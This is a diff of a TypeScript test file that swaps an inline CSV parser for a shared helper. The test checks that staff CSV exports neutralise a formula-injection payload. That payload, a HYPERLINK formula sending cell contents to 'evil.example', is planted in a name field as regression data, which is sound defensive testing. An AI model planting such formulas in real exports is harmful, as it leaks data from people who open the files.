@@ -17,6 +17,7 @@ import adminExports from '../../functions/admin-export.mts';
 import exportCsv from '../../functions/admin-analytics-export.mts';
 import { EXPORT_KINDS } from '../../src/lib/schemas/people.ts';
 import { REFERRER, SELF_REFERRAL_VARIANTS } from '../support/self-referral-variants.ts';
+import { parseCsv } from '../support/csv.ts';
 
 const db = useTestDatabase();
 const post = (body: unknown, headers?: Record<string, string>) => call(waitlist, jsonRequest(API.waitlist, body, { headers }));
@@ -390,23 +391,6 @@ describe('Growth Funnel referral conversions come from stored referrals, not the
   });
 });
 
-/** Cells of an RFC 4180 CSV text (quotes, doubled quotes, line breaks inside quotes). */
-function csvCells(text: string): string[] {
-  const cells: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',' || c === '\n') cells.push(cell.replace(/\r$/, '')), (cell = '');
-    else cell += c;
-  }
-  return [...cells, cell];
-}
 
 describe('a formula planted through the notify-launch name is text in every staff export (issue 17)', () => {
   const PLANTED = 'x;=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -427,7 +411,7 @@ describe('a formula planted through the notify-launch name is text in every staf
     for (const [kind, response] of exports) {
       expect(response.status, kind).toBe(200);
       const text = (await response.text()).replace(/^\uFEFF/, '');
-      for (const cell of csvCells(text)) {
+      for (const cell of parseCsv(text).flat()) {
         if (cell.includes('evil.example/?leak=')) seen++;
         for (const piece of [cell, ...cell.split(/[;,\t\r\n]/)]) expect(/^\s*[=+\-@]/.test(piece), `${kind}: ${JSON.stringify(cell)}`).toBe(false);
       }
